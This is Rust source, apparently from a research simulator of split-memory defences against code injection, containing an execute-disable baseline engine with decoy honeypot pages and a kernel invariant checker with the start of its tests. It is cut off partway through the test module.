    /// Copy the faulting page (and, when mapped, its successor — payloads
    /// may straddle the boundary) into fresh decoy pages at
    /// [`HONEYPOT_BASE`], mapped executable. Returns the decoy address
    /// corresponding to `addr`.
    fn relocate_to_honeypot(&mut self, sys: &mut System, pid: Pid, addr: u32) -> Option<u32> {
        let base = pte::page_base(addr);
        let slot = HONEYPOT_BASE + self.stats.honeypot_pages as u32 * PAGE_SIZE;
        let mut pages = vec![base];
        if let Some(next) = base.checked_add(PAGE_SIZE) {
            if pte::has(sys.pte_of(pid, next), pte::PRESENT) {
                pages.push(next);
            }
        }
        for (i, page) in pages.into_iter().enumerate() {
            let src = pte::frame(sys.pte_of(pid, page));
            let copy = sys.alloc_copy(src).ok()?;
            let decoy = slot + i as u32 * PAGE_SIZE;
            sys.set_pte(pid, decoy, pte::with_frame(pte::PRESENT | pte::USER, copy));
            sys.machine.invlpg(decoy);
            // One VMA per decoy page, added as soon as the page is mapped,
            // so teardown reclaims the frame even if a later page's
            // allocation fails. Read+execute, never writable: the decoy is
            // a dead end, not a new injection surface.
            sys.procs.get_mut(&pid.0)?.aspace.add_vma(Vma::new(
                decoy,
                decoy + PAGE_SIZE,
                SEG_R | SEG_X,
                VmaKind::Mmap,
                "nx-honeypot",
            ));
            self.stats.honeypot_pages += 1;
        }
        Some(slot + pte::page_offset(addr))
    }

    /// Clear NX on the pages a kernel trampoline was written to.
    pub fn exempt_trampoline(&mut self, sys: &mut System, pid: Pid, vaddr: u32, len: usize) {
        let mut addr = pte::page_base(vaddr);
        let end = vaddr.wrapping_add(len as u32);
        while addr < end {
            let entry = sys.pte_of(pid, addr);
            if pte::has(entry, pte::PRESENT) && pte::has(entry, pte::NX) {
                sys.set_pte(pid, addr, entry & !pte::NX);
                sys.machine.invlpg(addr);
                self.stats.trampoline_exemptions += 1;
            }
            addr += PAGE_SIZE;
        }
    }
}

impl ProtectionEngine for NxEngine {
    fn name(&self) -> &'static str {
        "execute-disable"
    }

    fn as_any(&self) -> &dyn std::any::Any {
        self
    }

    fn on_region_mapped(&mut self, sys: &mut System, pid: Pid, start: u32, end: u32) {
        self.mark_range(sys, pid, start, end, |_| false);
    }

    fn on_page_mapped(&mut self, sys: &mut System, pid: Pid, vaddr: u32) {
        self.mark_range(sys, pid, vaddr, vaddr + 1, |_| false);
    }

    fn on_protection_fault(
        &mut self,
        sys: &mut System,
        pid: Pid,
        pf: PageFaultInfo,
    ) -> FaultOutcome {
        self.detect(sys, pid, pf)
    }

    fn write_user_code(
        &mut self,
        sys: &mut System,
        pid: Pid,
        vaddr: u32,
        bytes: &[u8],
    ) -> Result<(), PageFaultInfo> {
        sys.machine.copy_to_user(vaddr, bytes)?;
        self.exempt_trampoline(sys, pid, vaddr, bytes.len());
        Ok(())
    }

    fn snapshot_state(&self) -> Vec<u8> {
        let mut w = sm_machine::snapshot::Writer::new();
        w.u64(self.stats.pages_marked);
        w.u64(self.stats.detections);
        w.u64(self.stats.trampoline_exemptions);
        w.u64(self.stats.honeypot_pages);
        w.into_bytes()
    }

    fn restore_state(&mut self, bytes: &[u8]) -> Result<(), String> {
        let s = |e: sm_machine::snapshot::SnapshotError| e.to_string();
        let mut r = sm_machine::snapshot::Reader::new(bytes);
        let stats = NxStats {
            pages_marked: r.u64().map_err(s)?,
            detections: r.u64().map_err(s)?,
            trampoline_exemptions: r.u64().map_err(s)?,
            honeypot_pages: r.u64().map_err(s)?,
        };
        if !r.is_done() {
            return Err("trailing bytes in execute-disable engine state".into());
        }
        self.stats = stats;
        Ok(())
    }
}
