//! Execute-disable (NX) baseline engine.
//!
//! Models the hardware-assisted page-level protection the paper compares
//! against (Intel execute-disable / AMD NX, DEP, PaX PAGEEXEC — §2): every
//! page that holds no code is marked non-executable, code pages stay
//! read-only through their VMA permissions. Two documented limitations are
//! reproduced faithfully because they motivate split memory:
//!
//! 1. **Mixed pages cannot be protected** — a page that holds both code and
//!    data must stay executable, so injection into it is not caught.
//! 2. **Signal trampolines need executable stacks** — the kernel clears NX
//!    on pages it writes trampolines to (exactly why historic Linux kept
//!    stacks executable).

use crate::split::page_is_executable;
use sm_kernel::engine::{FaultOutcome, ProtectionEngine};
use sm_kernel::events::{Event, ResponseMode};
use sm_kernel::kernel::System;
use sm_kernel::process::Pid;
use sm_machine::cpu::{Access, PageFaultInfo};
use sm_machine::pte::{self, PAGE_SIZE};

/// Counters for the NX engine.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct NxStats {
    /// Pages marked non-executable.
    pub pages_marked: u64,
    /// Blocked instruction fetches (attack detections).
    pub detections: u64,
    /// Pages whose NX was cleared for a kernel-written trampoline.
    pub trampoline_exemptions: u64,
}

/// The execute-disable baseline.
#[derive(Debug, Default)]
pub struct NxEngine {
    /// Event counters.
    pub stats: NxStats,
}

impl NxEngine {
    /// Create the engine. The machine must have been configured with
    /// `nx_enabled = true`; this is checked (with a panic) at first use,
    /// since silently running without the bit would report false security.
    pub fn new() -> NxEngine {
        NxEngine::default()
    }

    fn assert_hw(sys: &System) {
        assert!(
            sys.machine.config.nx_enabled,
            "NxEngine requires MachineConfig::nx_enabled (legacy x86 has no execute-disable bit)"
        );
    }

    /// Mark every present, non-executable page in `[start, end)` NX,
    /// skipping pages for which `skip` returns true (the combined engine
    /// skips split pages).
    pub fn mark_range(
        &mut self,
        sys: &mut System,
        pid: Pid,
        start: u32,
        end: u32,
        skip: impl Fn(u32) -> bool,
    ) {
        Self::assert_hw(sys);
        let mut addr = pte::page_base(start);
        while addr < end {
            let vpn = pte::vpn(addr);
            if !skip(vpn) && !page_is_executable(sys, pid, addr) {
                let entry = sys.pte_of(pid, addr);
                if pte::has(entry, pte::PRESENT) && !pte::has(entry, pte::NX) {
                    sys.set_pte(pid, addr, entry | pte::NX);
                    sys.machine.invlpg(addr);
                    self.stats.pages_marked += 1;
                }
            }
            match addr.checked_add(PAGE_SIZE) {
                Some(next) => addr = next,
                None => break,
            }
        }
    }

    /// Record a blocked fetch; shared with the combined engine.
    pub fn detect(&mut self, sys: &mut System, pid: Pid, pf: PageFaultInfo) -> FaultOutcome {
        if pf.access != Access::Fetch {
            return FaultOutcome::Unhandled;
        }
        let entry = sys.pte_of(pid, pte::page_base(pf.addr));
        if !pte::has(entry, pte::NX) {
            return FaultOutcome::Unhandled;
        }
        self.stats.detections += 1;
        sys.log(Event::AttackDetected {
            pid,
            eip: pf.addr,
            // NX supports only crash-style response.
            mode: ResponseMode::Break,
            shellcode: Vec::new(),
        });
        // Unhandled → the kernel delivers SIGSEGV, like DEP.
        FaultOutcome::Unhandled
    }

    /// Clear NX on the pages a kernel trampoline was written to.
    pub fn exempt_trampoline(&mut self, sys: &mut System, pid: Pid, vaddr: u32, len: usize) {
        let mut addr = pte::page_base(vaddr);
        let end = vaddr.wrapping_add(len as u32);
        while addr < end {
            let entry = sys.pte_of(pid, addr);
            if pte::has(entry, pte::PRESENT) && pte::has(entry, pte::NX) {
                sys.set_pte(pid, addr, entry & !pte::NX);
                sys.machine.invlpg(addr);
                self.stats.trampoline_exemptions += 1;
            }
            addr += PAGE_SIZE;
        }
    }
}

impl ProtectionEngine for NxEngine {
    fn name(&self) -> &'static str {
        "execute-disable"
    }

    fn as_any(&self) -> &dyn std::any::Any {
        self
    }

    fn on_region_mapped(&mut self, sys: &mut System, pid: Pid, start: u32, end: u32) {
        self.mark_range(sys, pid, start, end, |_| false);
    }

    fn on_page_mapped(&mut self, sys: &mut System, pid: Pid, vaddr: u32) {
        self.mark_range(sys, pid, vaddr, vaddr + 1, |_| false);
    }

    fn on_protection_fault(
        &mut self,
        sys: &mut System,
        pid: Pid,
        pf: PageFaultInfo,
    ) -> FaultOutcome {
        self.detect(sys, pid, pf)
    }

    fn write_user_code(
        &mut self,
        sys: &mut System,
        pid: Pid,
        vaddr: u32,
        bytes: &[u8],
    ) -> Result<(), PageFaultInfo> {
        sys.machine.copy_to_user(vaddr, bytes)?;
        self.exempt_trampoline(sys, pid, vaddr, bytes.len());
        Ok(())
    }

    fn snapshot_state(&self) -> Vec<u8> {
        let mut w = sm_machine::snapshot::Writer::new();
        w.u64(self.stats.pages_marked);
        w.u64(self.stats.detections);
        w.u64(self.stats.trampoline_exemptions);
        w.into_bytes()
    }

    fn restore_state(&mut self, bytes: &[u8]) -> Result<(), String> {
        let s = |e: sm_machine::snapshot::SnapshotError| e.to_string();
        let mut r = sm_machine::snapshot::Reader::new(bytes);
        let stats = NxStats {
            pages_marked: r.u64().map_err(s)?,
            detections: r.u64().map_err(s)?,
            trampoline_exemptions: r.u64().map_err(s)?,
        };
        if !r.is_done() {
            return Err("trailing bytes in execute-disable engine state".into());
        }
        self.stats = stats;
        Ok(())
    }
}
