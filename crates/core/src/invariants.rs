//! Split-memory invariant checker.
//!
//! The fault-injection (chaos) harness perturbs the machine — spurious TLB
//! flushes, seeded evictions, forced preemption, OOM — and the protection
//! guarantees must survive every perturbation. This module states the
//! engine's structural invariants and checks them against a live kernel
//! *between* execution slices (never mid-instruction):
//!
//! 1. **Frame accounting** — every allocated physical frame is tracked by
//!    the kernel's refcounting [`FrameTable`](sm_kernel::addrspace::FrameTable);
//!    nothing leaks, nothing is double-freed.
//! 2. **At-rest restriction** — outside the Algorithm-1 single-step
//!    window, every split page's PTE is supervisor-only, carries the
//!    `SPLIT` bit and points at the *data* frame (paper §5.1: the
//!    pagetable at rest must never expose the code frame to data walks).
//! 3. **No D-TLB code leak** — the data-TLB of the running process never
//!    maps a split page to its *code* frame (that would let loads read
//!    the code half, defeating the desynchronisation).
//! 4. **Pristine filler** — the code half of a never-written data page
//!    still holds exactly the response-mode filler (zeros for break,
//!    [`SPLIT_FILL_OPCODE`] otherwise): nothing silently deposited
//!    executable bytes where injected code would run.
//! 5. **Code-frame liveness** — every code frame recorded in a split
//!    table is still tracked with a positive refcount.
//! 6. **Decode-cache coherence** — every *current* cached decode (one
//!    whose snapshot write-generation still matches its frame's) must
//!    equal a fresh decode of the frame's bytes; a mismatch means a write
//!    reached a frame without bumping its generation, i.e. the decoded
//!    instruction cache would execute stale bytes. Stale-generation
//!    entries are legal — the cache discards them lazily on next lookup.
//! 7. **Refcount lockstep** — the kernel's per-frame refcounts and the
//!    physical allocator's agree frame by frame; a skew means some share
//!    or release path updated one ledger but not the other.
//! 8. **No cross-process I-TLB leak** — no process's I-TLB path can
//!    reach another live process's split *data* frame (the multi-process
//!    restatement of the paper's desynchronisation guarantee: COW-shared
//!    data must never become fetchable through a neighbour's mappings).
//! 9. **Page-rights consistency** — a present PTE never carries both
//!    `SPLIT` and `NX` (the two mechanisms are mutually exclusive per
//!    page), never carries `SPLIT` without a split-table entry backing
//!    it, and `NX` never lands on a page of an executable region.
//! 10. **Superblock coherence** — every *current* cached superblock (one
//!     whose snapshot write-generation still matches its frame's) must
//!     re-decode, op by op, to what the frame's bytes decode to now; a
//!     mismatch means a write reached a spanned frame without bumping its
//!     generation, i.e. `Machine::run_block` would execute stale
//!     pre-decoded ops. Stale-generation tables are legal — the cache
//!     discards them lazily on next lookup (mirrors invariant #6 for the
//!     decode cache).
//!
//! [`check`] returns every violation found; [`run_with_checks`] interleaves
//! checking with execution so a whole workload can be swept.

use crate::combined::CombinedEngine;
use crate::engine::SplitMemEngine;
use sm_kernel::events::ResponseMode;
use sm_kernel::kernel::{Kernel, RunExit};
use sm_kernel::process::{Pid, ProcState};
use sm_machine::isa::SPLIT_FILL_OPCODE;
use sm_machine::pte;
use std::fmt;

/// One invariant violation, with enough context to debug it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Violation {
    /// Allocator and frame-table disagree about how many frames are live.
    FrameAccounting {
        /// Frames the physical allocator says are handed out.
        allocated: u32,
        /// Frames the kernel's refcount table is tracking.
        tracked: usize,
    },
    /// A split page's at-rest PTE is user-visible, lost its `SPLIT` bit,
    /// or points somewhere other than the data frame.
    AtRestPte {
        /// Owning process.
        pid: Pid,
        /// Page base address.
        vaddr: u32,
        /// The offending raw PTE.
        entry: u32,
    },
    /// The running process's D-TLB maps a split page to its code frame.
    DtlbCodeLeak {
        /// Owning process.
        pid: Pid,
        /// Page base address.
        vaddr: u32,
    },
    /// A pristine filler code frame holds a byte that is not the filler.
    FillerTampered {
        /// Owning process.
        pid: Pid,
        /// Page base address.
        vaddr: u32,
        /// Offset of the first bad byte within the frame.
        offset: u32,
        /// The bad byte.
        byte: u8,
    },
    /// A split table references a code frame the frame table no longer
    /// tracks (dangling — a use-after-free in waiting).
    CodeFrameUntracked {
        /// Owning process.
        pid: Pid,
        /// Page base address.
        vaddr: u32,
    },
    /// A current decode-cache entry disagrees with the bytes actually in
    /// its frame: some write path mutated physical memory without bumping
    /// the frame's write-generation.
    DecodeCacheIncoherent {
        /// Physical frame holding the stale decode.
        pfn: u32,
        /// Byte offset of the instruction within the frame.
        offset: u32,
    },
    /// A current superblock op disagrees with a fresh decode of the bytes
    /// actually in its frame: some write path mutated physical memory
    /// without bumping the frame's write-generation, so the pipeline
    /// would execute stale pre-decoded ops.
    SuperblockIncoherent {
        /// Physical frame holding the stale block.
        pfn: u32,
        /// Byte offset of the mismatching op within the frame.
        offset: u32,
    },
    /// The kernel frame table and the machine allocator disagree on one
    /// frame's refcount — a share/release path updated one ledger only.
    RefcountSkew {
        /// Physical frame number.
        pfn: u32,
        /// Refcount according to the machine's allocator.
        machine_rc: u32,
        /// Refcount according to the kernel's frame table.
        kernel_rc: u32,
    },
    /// An I-TLB entry reachable by one process maps another live
    /// process's split *data* frame — injected bytes in a COW-shared page
    /// would be fetchable across the process boundary.
    ItlbCrossProcessLeak {
        /// Process whose fetches can consume the entry.
        pid: Pid,
        /// Process that owns the leaked data frame.
        other: Pid,
        /// Page base address of the I-TLB entry.
        vaddr: u32,
    },
    /// A present PTE carries both `SPLIT` and `NX`: the split engine and
    /// the execute-disable engine both claim the page.
    SplitNxConflict {
        /// Owning process.
        pid: Pid,
        /// Page base address.
        vaddr: u32,
    },
    /// A present PTE carries `NX` on a page inside an executable region —
    /// the program's own code would fault on fetch.
    NxMarkedExecutable {
        /// Owning process.
        pid: Pid,
        /// Page base address.
        vaddr: u32,
    },
    /// A present PTE carries the `SPLIT` bit but no split-table entry
    /// backs it: a fault on the page would hit the engine with no
    /// code/data pair to desynchronise.
    SplitBitOrphan {
        /// Owning process.
        pid: Pid,
        /// Page base address.
        vaddr: u32,
    },
    /// The kernel's cached live-process counter drifted from a full
    /// recount of the process table — some insert/exit/reap path forgot
    /// to maintain the batched accounting.
    LiveCountDrift {
        /// The O(1) cached counter.
        cached: usize,
        /// The recounted ground truth.
        actual: usize,
    },
    /// The trace-event stream violated the Algorithm-1/2 ordering rules
    /// (an unrestrict left open, an armed window that never fired, a
    /// cycle regression). Strictly stronger than the state snapshots
    /// above: those can miss a window that opened *and* closed improperly
    /// between two checks; the trace records the whole interleaving.
    TraceOrder(
        /// Human-readable description from [`sm_trace::check_order`].
        String,
    ),
}

impl fmt::Display for Violation {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Violation::FrameAccounting { allocated, tracked } => write!(
                f,
                "frame accounting skew: allocator has {allocated} live, frame table tracks {tracked}"
            ),
            Violation::AtRestPte { pid, vaddr, entry } => write!(
                f,
                "{pid} split page {vaddr:#010x}: at-rest PTE {entry:#010x} is not restricted to the data frame"
            ),
            Violation::DtlbCodeLeak { pid, vaddr } => write!(
                f,
                "{pid} split page {vaddr:#010x}: D-TLB maps the code frame"
            ),
            Violation::FillerTampered {
                pid,
                vaddr,
                offset,
                byte,
            } => write!(
                f,
                "{pid} split page {vaddr:#010x}: filler byte at +{offset:#x} is {byte:#04x}"
            ),
            Violation::CodeFrameUntracked { pid, vaddr } => write!(
                f,
                "{pid} split page {vaddr:#010x}: code frame untracked by the frame table"
            ),
            Violation::DecodeCacheIncoherent { pfn, offset } => write!(
                f,
                "decode cache: frame {pfn} offset {offset:#05x}: cached decode disagrees with memory"
            ),
            Violation::SuperblockIncoherent { pfn, offset } => write!(
                f,
                "superblock cache: frame {pfn} offset {offset:#05x}: cached op disagrees with memory"
            ),
            Violation::RefcountSkew {
                pfn,
                machine_rc,
                kernel_rc,
            } => write!(
                f,
                "frame {pfn}: allocator refcount {machine_rc} != frame-table refcount {kernel_rc}"
            ),
            Violation::ItlbCrossProcessLeak { pid, other, vaddr } => write!(
                f,
                "{pid} I-TLB entry {vaddr:#010x} maps {other}'s split data frame"
            ),
            Violation::SplitNxConflict { pid, vaddr } => write!(
                f,
                "{pid} page {vaddr:#010x}: PTE carries both SPLIT and NX"
            ),
            Violation::NxMarkedExecutable { pid, vaddr } => write!(
                f,
                "{pid} page {vaddr:#010x}: NX set inside an executable region"
            ),
            Violation::SplitBitOrphan { pid, vaddr } => write!(
                f,
                "{pid} page {vaddr:#010x}: SPLIT bit set but no split-table entry"
            ),
            Violation::LiveCountDrift { cached, actual } => write!(
                f,
                "live-process counter drift: cached {cached}, recount {actual}"
            ),
            Violation::TraceOrder(msg) => write!(f, "trace order: {msg}"),
        }
    }
}

/// The split half of whatever engine the kernel runs, if any.
fn split_engine(k: &Kernel) -> Option<&SplitMemEngine> {
    let any = k.engine.as_any();
    if let Some(e) = any.downcast_ref::<SplitMemEngine>() {
        return Some(e);
    }
    if let Some(c) = any.downcast_ref::<CombinedEngine>() {
        return Some(&c.split);
    }
    None
}

/// Check every invariant against the kernel's current state. Call between
/// [`Kernel::run`] slices — the state is only meant to be consistent at
/// instruction boundaries. Returns all violations found (empty = healthy).
pub fn check(k: &Kernel) -> Vec<Violation> {
    let mut out = Vec::new();

    // 1. Frame accounting.
    let allocated = k.sys.machine.phys.allocator.allocated_count();
    let tracked = k.sys.frames.tracked();
    if allocated as usize != tracked {
        out.push(Violation::FrameAccounting { allocated, tracked });
    }

    // 11. Batched process accounting: the O(1) live counter the scheduler
    // and fleet drivers rely on must equal a full recount.
    let cached = k.sys.live_process_count();
    let actual = k.sys.recount_live();
    if cached != actual {
        out.push(Violation::LiveCountDrift { cached, actual });
    }

    // 7. Refcount lockstep, frame by frame. Together with #1 this covers
    // both directions: a frame live in the allocator but untracked by the
    // kernel skews the counts; a tracked frame whose counts merely differ
    // is caught here.
    for (pfn, kernel_rc) in k.sys.frames.iter() {
        let machine_rc = k.sys.machine.phys.allocator.refcount(pte::Frame(pfn));
        if machine_rc != kernel_rc {
            out.push(Violation::RefcountSkew {
                pfn,
                machine_rc,
                kernel_rc,
            });
        }
    }

    // 6. Decode-cache coherence (engine-independent). Work is bounded:
    // stale-generation tables are skipped by a single version compare
    // (never walking their entries), a live table's scan stops once its
    // occupied slots have all been visited, and at most `BUDGET` entries
    // are re-decoded per call — so interleaved checking stays cheap even
    // for code-heavy workloads.
    const BUDGET: u32 = 64;
    let m = &k.sys.machine;
    let mut budget = BUDGET;
    'frames: for (pfn, version, used, entries) in m.decode_cache.iter_frames() {
        if used == 0 || version != m.phys.frame_version(pfn) {
            continue;
        }
        let bytes = m.phys.frame_bytes(pte::Frame(pfn));
        let mut remaining = used;
        for (off, e) in entries.iter().enumerate() {
            let Some(cached) = e else { continue };
            if budget == 0 {
                break 'frames;
            }
            budget -= 1;
            if sm_machine::isa::decode_slice(&bytes[off..]) != Ok(cached.decoded) {
                out.push(Violation::DecodeCacheIncoherent {
                    pfn,
                    offset: off as u32,
                });
            }
            remaining -= 1;
            if remaining == 0 {
                break;
            }
        }
    }

    // 10. Superblock coherence (engine-independent): same shape as #6 —
    // stale-generation tables are skipped by one version compare (they
    // are one lookup away from lazy invalidation), and at most `BUDGET`
    // ops are re-decoded per call. Each block's ops are validated in
    // entry order so the reported offset is the first stale byte the
    // pipeline would have executed.
    let mut budget = BUDGET;
    'sb_frames: for (pfn, version, blocks) in m.superblocks.iter_frames() {
        if blocks.is_empty() || version != m.phys.frame_version(pfn) {
            continue;
        }
        let bytes = m.phys.frame_bytes(pte::Frame(pfn));
        for (&entry, block) in blocks {
            let mut off = entry as usize;
            for op in block.ops.iter() {
                if budget == 0 {
                    break 'sb_frames;
                }
                budget -= 1;
                if off >= bytes.len()
                    || sm_machine::isa::decode_slice(&bytes[off..]) != Ok(op.decoded)
                {
                    out.push(Violation::SuperblockIncoherent {
                        pfn,
                        offset: off as u32,
                    });
                    break;
                }
                off += op.len as usize;
            }
        }
    }

    // 9. Page-rights consistency. Engine-independent (the NX baseline has
    // no split tables, so any SPLIT bit it leaves behind is an orphan):
    // walk every mapped page of every live process's regions.
    let split = split_engine(k);
    for (raw_pid, proc) in &k.sys.procs {
        if proc.state == ProcState::Zombie {
            continue;
        }
        let pid = Pid(*raw_pid);
        let table = split.and_then(|e| e.table(pid));
        for vma in &proc.aspace.vmas {
            let mut addr = pte::page_base(vma.start);
            while addr < vma.end {
                let entry = k.sys.pte_of(pid, addr);
                if pte::has(entry, pte::PRESENT) {
                    if pte::has(entry, pte::SPLIT) && pte::has(entry, pte::NX) {
                        out.push(Violation::SplitNxConflict { pid, vaddr: addr });
                    }
                    if pte::has(entry, pte::SPLIT)
                        && table.is_none_or(|t| t.get(pte::vpn(addr)).is_none())
                    {
                        out.push(Violation::SplitBitOrphan { pid, vaddr: addr });
                    }
                    if pte::has(entry, pte::NX) && vma.executable() {
                        out.push(Violation::NxMarkedExecutable { pid, vaddr: addr });
                    }
                }
                match addr.checked_add(pte::PAGE_SIZE) {
                    Some(next) => addr = next,
                    None => break,
                }
            }
        }
    }

    let Some(engine) = split else {
        return out;
    };
    let fill = if engine.config.response == ResponseMode::Break {
        0x00
    } else {
        SPLIT_FILL_OPCODE
    };

    // 8. No cross-process I-TLB leak. Attribute every I-TLB entry to the
    // process whose fetches can consume it — by ASID tag when tagging is
    // on, otherwise to the running process (untagged TLBs are flushed on
    // every address-space switch, so resident entries belong to it). An
    // entry mapping another live process's split data frame is a leak
    // unless the consumer's own split table maps that page to the same
    // (COW-shared) frame, or the page is mid-reload in the consumer's
    // Algorithm-1 single-step window.
    let mut data_owners: Vec<(u32, Pid)> = Vec::new();
    for (raw_pid, proc) in &k.sys.procs {
        if proc.state == ProcState::Zombie {
            continue;
        }
        let pid = Pid(*raw_pid);
        if let Some(t) = engine.table(pid) {
            for (_, sp) in t.iter() {
                data_owners.push((sp.data.0, pid));
            }
        }
    }
    for (_, entries) in k.sys.machine.itlb.iter_sets() {
        for e in entries {
            let consumer = if k.sys.config.asid_tlbs {
                Pid(e.asid as u32)
            } else {
                match k.sys.current {
                    Some(p) => p,
                    None => continue,
                }
            };
            let Some(proc) = k.sys.procs.get(&consumer.0) else {
                continue;
            };
            let Some(&(_, other)) = data_owners
                .iter()
                .find(|(pfn, owner)| *pfn == e.pfn && *owner != consumer)
            else {
                continue;
            };
            let base = e.vpn << pte::PAGE_SHIFT;
            let shared = engine
                .table(consumer)
                .and_then(|t| t.get(e.vpn))
                .is_some_and(|sp| sp.data.0 == e.pfn);
            if !shared && proc.pending_step_addr != Some(base) {
                out.push(Violation::ItlbCrossProcessLeak {
                    pid: consumer,
                    other,
                    vaddr: base,
                });
            }
        }
    }

    for (raw_pid, proc) in &k.sys.procs {
        if proc.state == ProcState::Zombie {
            continue;
        }
        let pid = Pid(*raw_pid);
        let Some(table) = engine.table(pid) else {
            continue;
        };
        // The one page allowed to be unrestricted: the page an Algorithm-1
        // single-step reload is currently traversing.
        let window = proc.pending_step_addr;
        // 3. No D-TLB code leak. Untagged TLBs hold only the running
        // process's address space; ASID-tagged TLBs keep every process's
        // entries resident, each attributed by its tag. The scan walks
        // the buffer's sets directly: a set-associative TLB can only hold
        // a page's translation in the set its low VPN bits select, so
        // visiting each set's resident entries covers exactly the state
        // the hardware would consult.
        if k.sys.config.asid_tlbs || k.sys.current == Some(pid) {
            for (_, entries) in k.sys.machine.dtlb.iter_sets() {
                for e in entries {
                    if k.sys.config.asid_tlbs && e.asid != *raw_pid as u16 {
                        continue;
                    }
                    let base = e.vpn << pte::PAGE_SHIFT;
                    if window == Some(base) {
                        continue;
                    }
                    if table
                        .get(e.vpn)
                        .and_then(|sp| sp.code)
                        .is_some_and(|code| code.0 == e.pfn)
                    {
                        out.push(Violation::DtlbCodeLeak { pid, vaddr: base });
                    }
                }
            }
        }
        for (vpn, sp) in table.iter() {
            let base = vpn << pte::PAGE_SHIFT;
            if window == Some(base) {
                continue;
            }
            // 2. At-rest restriction.
            let entry = k.sys.pte_of(pid, base);
            if pte::has(entry, pte::PRESENT)
                && (pte::has(entry, pte::USER)
                    || !pte::has(entry, pte::SPLIT)
                    || pte::frame(entry) != sp.data)
            {
                out.push(Violation::AtRestPte {
                    pid,
                    vaddr: base,
                    entry,
                });
            }
            let Some(code) = sp.code else {
                continue;
            };
            // 5. Code-frame liveness.
            if k.sys.frames.refcount(code) == 0 {
                out.push(Violation::CodeFrameUntracked { pid, vaddr: base });
            }
            // 4. Pristine filler (borrowing the frame avoids a page-sized
            // copy per filler page — this runs between every checked slice).
            if sp.filler {
                let buf = k.sys.machine.phys.frame_bytes(code);
                if let Some((i, b)) = buf.iter().enumerate().find(|(_, b)| **b != fill) {
                    out.push(Violation::FillerTampered {
                        pid,
                        vaddr: base,
                        offset: i as u32,
                        byte: *b,
                    });
                }
            }
        }
    }
    out
}

/// Check the tracer's event stream against the Algorithm-1/2 ordering
/// rules ([`sm_trace::check_order`]). Pass `complete = true` only when
/// the run has finished (every process exited), so leftover open windows
/// are flagged; between slices an armed single-step window is legal.
/// No-op (returns empty) when tracing is disabled or nothing was emitted.
pub fn check_trace(k: &Kernel, complete: bool) -> Vec<Violation> {
    let tracer = &k.sys.machine.tracer;
    if tracer.emitted() == 0 {
        return Vec::new();
    }
    let records = tracer.snapshot();
    sm_trace::check_order(&records, tracer.truncated(), complete)
        .into_iter()
        .map(Violation::TraceOrder)
        .collect()
}

/// Run the kernel in `stride`-cycle slices up to `max_cycles`, checking
/// every invariant between slices. Stops early (returning what was found)
/// as soon as a slice ends with violations, or when the kernel exits.
pub fn run_with_checks(k: &mut Kernel, max_cycles: u64, stride: u64) -> (RunExit, Vec<Violation>) {
    run_with_checks_hook(k, max_cycles, stride, |_, _| {})
}

/// [`run_with_checks`] with an observation hook called between slices.
///
/// The hook runs with `(kernel, slice_index)` only when the run is about to
/// *continue* — after a healthy slice that is neither the last nor a
/// violating one. The chaos harness checkpoints from this hook; the
/// placement guarantees every snapshot it takes strictly precedes the
/// failing slice, so a replay restored from the latest checkpoint always
/// re-executes the failure.
pub fn run_with_checks_hook(
    k: &mut Kernel,
    max_cycles: u64,
    stride: u64,
    mut hook: impl FnMut(&mut Kernel, u64),
) -> (RunExit, Vec<Violation>) {
    run_with_checks_until(k, max_cycles, stride, |k, slice| {
        hook(k, slice);
        true
    })
}

/// [`run_with_checks_hook`] with a *steering* hook: returning `false`
/// stops the run at that slice boundary, with whatever exit the slice
/// produced (normally [`RunExit::CyclesExhausted`]) and no violations.
///
/// This is the segment-scheduler primitive: a shard runs its interval's
/// worth of slices against the run's *global* deadline (so per-slice
/// cycle budgets clip exactly as in the serial run) and uses the hook to
/// stop at its last boundary instead of running to the deadline.
pub fn run_with_checks_until(
    k: &mut Kernel,
    max_cycles: u64,
    stride: u64,
    mut hook: impl FnMut(&mut Kernel, u64) -> bool,
) -> (RunExit, Vec<Violation>) {
    let stride = stride.max(1);
    let deadline = k.sys.machine.cycles.saturating_add(max_cycles);
    let mut slice: u64 = 0;
    loop {
        let remaining = deadline.saturating_sub(k.sys.machine.cycles);
        let exit = k.run(stride.min(remaining));
        let done = exit != RunExit::CyclesExhausted || remaining <= stride;
        let mut violations = check(k);
        violations.extend(check_trace(k, exit == RunExit::AllExited));
        if !violations.is_empty() || done {
            return (exit, violations);
        }
        if !hook(k, slice) {
            return (exit, violations);
        }
        slice += 1;
    }
}

/// The slice loop of [`run_with_checks_hook`] *without* the per-slice
/// invariant and trace-order checks.
///
/// Execution is byte-for-byte the same — the checks are read-only, and
/// the slice geometry (per-slice budget clipped against the deadline,
/// which steers scheduler re-enqueue points) is reproduced exactly — so a
/// snapshot taken from this loop's hook at slice `s` equals the checked
/// loop's state at slice `s`, for every boundary the checked run reaches.
/// This is the sharded pre-pass: it pays raw execution cost only, leaving
/// the (more expensive) per-slice verification to the parallel segments.
pub fn run_slices_hook(
    k: &mut Kernel,
    max_cycles: u64,
    stride: u64,
    mut hook: impl FnMut(&mut Kernel, u64),
) -> RunExit {
    let stride = stride.max(1);
    let deadline = k.sys.machine.cycles.saturating_add(max_cycles);
    let mut slice: u64 = 0;
    loop {
        let remaining = deadline.saturating_sub(k.sys.machine.cycles);
        let exit = k.run(stride.min(remaining));
        if exit != RunExit::CyclesExhausted || remaining <= stride {
            return exit;
        }
        hook(k, slice);
        slice += 1;
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::engine::{SplitMemConfig, SplitMemEngine};
    use crate::split::SplitPolicy;
    use sm_kernel::kernel::Kernel;
    use sm_kernel::userlib::ProgramBuilder;
    use sm_machine::tlb::TlbEntry;

    fn split_kernel() -> Kernel {
        Kernel::with_engine(Box::new(SplitMemEngine::new(SplitMemConfig::default())))
    }

    fn demo_program(path: &str) -> sm_kernel::userlib::BuiltProgram {
        ProgramBuilder::new(path)
            .code("_start: mov eax, 7\n mov ebx, eax\n call exit")
            .data("v: .word 3")
            .build()
            .unwrap()
    }

    #[test]
    fn healthy_run_has_no_violations() {
        let mut k = split_kernel();
        let prog = ProgramBuilder::new("/bin/ok")
            .code("_start: mov eax, 7\n mov ebx, eax\n call exit")
            .data("v: .word 3")
            .build()
            .unwrap();
        k.spawn(&prog.image).unwrap();
        let (exit, violations) = run_with_checks(&mut k, 10_000_000, 500);
        assert_eq!(exit, RunExit::AllExited);
        assert!(violations.is_empty(), "violations: {violations:?}");
    }

    #[test]
